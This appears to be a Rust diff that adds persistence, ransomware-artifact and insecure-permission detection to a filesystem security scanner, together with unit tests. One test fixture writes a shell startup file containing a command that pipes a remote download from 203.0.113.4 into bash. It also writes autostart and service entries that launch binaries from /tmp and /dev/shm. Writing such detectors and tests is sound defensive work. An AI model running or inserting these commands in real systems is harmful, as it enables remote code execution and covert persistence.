+        findings.extend(self.detect_symlink_attacks(path, filter));
+        findings.extend(self.detect_hidden_root(path, filter));
+        findings.extend(self.detect_git_exposure(path, filter));
+        findings.extend(self.detect_screenshot_collection(path, filter));
+        findings.extend(self.detect_sensitive_files(path, filter));
+        findings.extend(self.detect_path_traversal(path, filter));
+        findings.extend(self.detect_persistence_files(path, filter));
+        findings.extend(self.detect_ransomware_artifacts(path, filter));
+        #[cfg(unix)]
+        findings.extend(self.detect_insecure_permissions(path, filter));
 
         findings
     }
@@ -459,7 +1081,9 @@ impl Skill for FilesystemDetector {
     fn description(&self) -> &str {
         "Detects filesystem-based security threats including recursive symlinks, \
          hidden sensitive files, exposed .git directories, screenshot collection \
-         (spyware), sensitive file exposure, and path traversal patterns."
+         (spyware), sensitive file exposure, path traversal patterns, files in autostart \
+         locations (persistence), ransomware-renamed files and ransom notes, and (on Unix) \
+         setuid/setgid or world-writable files."
     }
 
     fn schema(&self) -> Value {
@@ -490,18 +1114,232 @@ impl Skill for FilesystemDetector {
             )));
         }
 
-        let findings = self.analyze(path);
+        let findings = self.analyze(path, &scan_params.path_filter()?);
 
         let threshold = self.confidence_threshold();
-        let filtered: Vec<Finding> = findings
+        let mut filtered: Vec<Finding> = findings
             .into_iter()
             .filter(|f| f.confidence >= threshold)
             .collect();
 
+        tag_attack_techniques(&mut filtered, self.attack_techniques());
+
         Ok(SkillOutput::with_findings(filtered))
     }
 
+    fn attack_techniques(&self) -> AttackMapping {
+        ATTACK_TECHNIQUES
+    }
+
+    fn finding_types(&self) -> Vec<&str> {
+        explained_types(EXPLANATIONS)
+    }
+
+    fn explain(&self, finding_type: &str) -> Option<Explanation> {
+        find_explanation(EXPLANATIONS, finding_type)
+    }
+
     fn categories(&self) -> Vec<&str> {
-        vec!["filesystem", "symlink", "git", "spyware", "exposure"]
+        vec![
+            "filesystem", "symlink", "git", "spyware", "exposure", "persistence",
+            "ransomware",
+        ]
+    }
+
+    fn scans_tree(&self) -> bool {
+        true
+    }
+}
+
+#[cfg(all(test, unix))]
+mod tests {
+    use super::*;
+    use std::os::unix::fs::symlink;
+
+    fn symlink_findings(dir: &Path) -> Vec<Finding> {
+        FilesystemDetector::new().detect_symlink_attacks(dir, &PathFilter::default())
+    }
+
+    #[test]
+    fn test_two_link_cycle_reported_once_with_chain() {
+        let dir = tempfile::tempdir().unwrap();
+        symlink("b", dir.path().join("a")).unwrap();
+        symlink("./a", dir.path().join("b")).unwrap();
+
+        let findings = symlink_findings(dir.path());
+        let circular: Vec<&Finding> = findings
+            .iter()
+            .filter(|f| f.finding_type == "symlink_circular")
+            .collect();
+
+        assert_eq!(circular.len(), 1);
+        let chain = circular[0].value["chain"].as_array().unwrap();
+        assert_eq!(chain.len(), 3);
+        assert_eq!(chain[0], chain[2]);
+        assert_eq!(circular[0].value["cycle_length"], 2);
+    }
+
+    #[test]
+    fn test_self_reference_and_long_chain() {
+        let dir = tempfile::tempdir().unwrap();
+        symlink("self", dir.path().join("self")).unwrap();
+
+        // link0 -> link1 -> ... -> link45 -> real
+        std::fs::write(dir.path().join("real"), "x").unwrap();
+        for i in 0..46 {
+            let target = if i == 45 { "real".to_string() } else { format!("link{}", i + 1) };
+            symlink(target, dir.path().join(format!("link{}", i))).unwrap();
+        }
+
+        let findings = symlink_findings(dir.path());
+        let count = |kind: &str| findings.iter().filter(|f| f.finding_type == kind).count();
+
+        assert_eq!(count("symlink_self_reference"), 1);
+        assert_eq!(count("symlink_circular"), 0);
+        // Links more than 40 hops from the real file
+        assert_eq!(count("symlink_chain_too_long"), 6);
+    }
+
+    #[test]
+    fn test_insecure_permissions() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        let set_mode = |name: &str, mode: u32| {
+            std::fs::set_permissions(root.join(name), std::fs::Permissions::from_mode(mode))
+                .unwrap();
+        };
+        for name in ["suid", "shared.conf", "ok.sh"] {
+            std::fs::write(root.join(name), "x").unwrap();
+        }
+        for name in ["drop", "scratch"] {
+            std::fs::create_dir(root.join(name)).unwrap();
+        }
+        set_mode("suid", 0o4755);
+        set_mode("shared.conf", 0o666);
+        set_mode("ok.sh", 0o755);
+        set_mode("drop", 0o777);
+        set_mode("scratch", 0o1777);
+        symlink("ok.sh", root.join("link")).unwrap();
+
+        let findings =
+            FilesystemDetector::new().detect_insecure_permissions(root, &PathFilter::default());
+        let mut flagged: Vec<(String, String)> = findings
+            .iter()
+            .map(|f| {
+                let name = Path::new(&f.location).file_name().unwrap().to_string_lossy();
+                (name.into_owned(), f.value["mode"].as_str().unwrap().to_string())
+            })
+            .collect();
+        flagged.sort();
+
+        assert_eq!(
+            flagged,
+            [
+                ("drop".to_string(), "0777".to_string()),
+                ("shared.conf".to_string(), "0666".to_string()),
+                ("suid".to_string(), "4755".to_string()),
+            ]
+        );
+        let suid = findings.iter().find(|f| f.value["setuid"] == true).unwrap();
+        assert_eq!(suid.severity, Severity::High);
+    }
+
+    #[test]
+    fn test_skip_dirs_pruned_but_git_still_checked() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        std::fs::create_dir_all(root.join(".git")).unwrap();
+        std::fs::create_dir_all(root.join("node_modules/pkg")).unwrap();
+        std::fs::write(root.join("node_modules/pkg/.env"), "SECRET=1").unwrap();
+        std::fs::write(root.join(".env"), "SECRET=1").unwrap();
+
+        let findings = FilesystemDetector::new().analyze(root, &PathFilter::default());
+        assert!(findings.iter().any(|f| f.finding_type == "git_directory_exposed"));
+        assert!(findings.iter().any(|f| f.location.ends_with(".env")));
+        assert!(findings.iter().all(|f| !f.location.contains("node_modules")));
+    }
+
+    #[test]
+    fn test_persistence_files() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        let write = |rel: &str, content: &str| {
+            let file = root.join(rel);
+            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+            std::fs::write(file, content).unwrap();
+        };
+        write(
+            "home/user/.config/autostart/update-notifier.desktop",
+            "[Desktop Entry]\nType=Application\nExec=/tmp/.x11-unix/notifier --quiet\n",
+        );
+        write("etc/cron.d/logrotate", "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n");
+        write("dist/agent.service", "[Service]\nExecStart=/dev/shm/agent\n");
+        write("home/user/.bashrc", "alias ll='ls -l'\ncurl -s http://203.0.113.4/i | bash\n");
+        // Ordinary dotfiles and packaged units are left alone
+        write("dotfiles/.zshrc", "export EDITOR=vim\n");
+        write("packaging/app.service", "[Service]\nExecStart=/usr/bin/app\n");
+
+        let findings =
+            FilesystemDetector::new().detect_persistence_files(root, &PathFilter::default());
+        let mut found: Vec<(&str, f32)> = findings
+            .iter()
+            .map(|f| (f.value["mechanism"].as_str().unwrap(), f.confidence))
+            .collect();
+        found.sort_by(|a, b| a.0.cmp(b.0));
+        assert_eq!(
+            found,
+            [("cron", 0.7), ("shell_rc", 0.9), ("systemd_unit", 0.9), ("xdg_autostart", 0.9)]
+        );
+
+        let autostart = findings.iter().find(|f| f.value["mechanism"] == "xdg_autostart").unwrap();
+        assert_eq!(autostart.severity, Severity::High);
+        assert_eq!(autostart.value["line"], 3);
+        assert_eq!(autostart.value["technique"], "T1547.013");
+    }
+
+    #[test]
+    fn test_ransomware_artifacts() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        let write = |rel: &str| {
+            let file = root.join(rel);
+            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+            std::fs::write(file, [0x8f, 0x1c, 0xe2, 0x47]).unwrap();
+        };
+        for i in 0..12 {
+            write(&format!("share/finance/report_{}.xlsx.locked", i));
+            write(&format!("share/photos/IMG_{:04}.jpg.a8f3k2l1", i));
+            write(&format!("site/assets/icon_{}.png", i));
+        }
+        write("share/finance/budget.xlsx");
+        write("share/finance/HOW_TO_DECRYPT.txt");
+        write("share/!!!READ_ME!!!.html");
+        // An ordinary README and a directory of one common type are fine
+        write("site/assets/README.txt");
+
+        let findings =
+            FilesystemDetector::new().detect_ransomware_artifacts(root, &PathFilter::default());
+        let found: Vec<(&str, Severity, &Value)> = findings
+            .iter()
+            .map(|f| {
+                let dir = f.value["directory"].as_str().unwrap();
+                (&dir[root.to_str().unwrap().len()..], f.severity, &f.value["extension"])
+            })
+            .collect();
+        assert_eq!(
+            found,
+            [
+                ("/share", Severity::Medium, &Value::Null),
+                ("/share/finance", Severity::Critical, &json!("locked")),
+                ("/share/photos", Severity::High, &json!("a8f3k2l1")),
+            ]
+        );
+
+        let finance = &findings[1];
+        assert_eq!(finance.value["affected_files"], 12);
+        assert_eq!(finance.value["total_files"], 13);
+        assert!(finance.value["note"].as_str().unwrap().ends_with("HOW_TO_DECRYPT.txt"));
     }
 }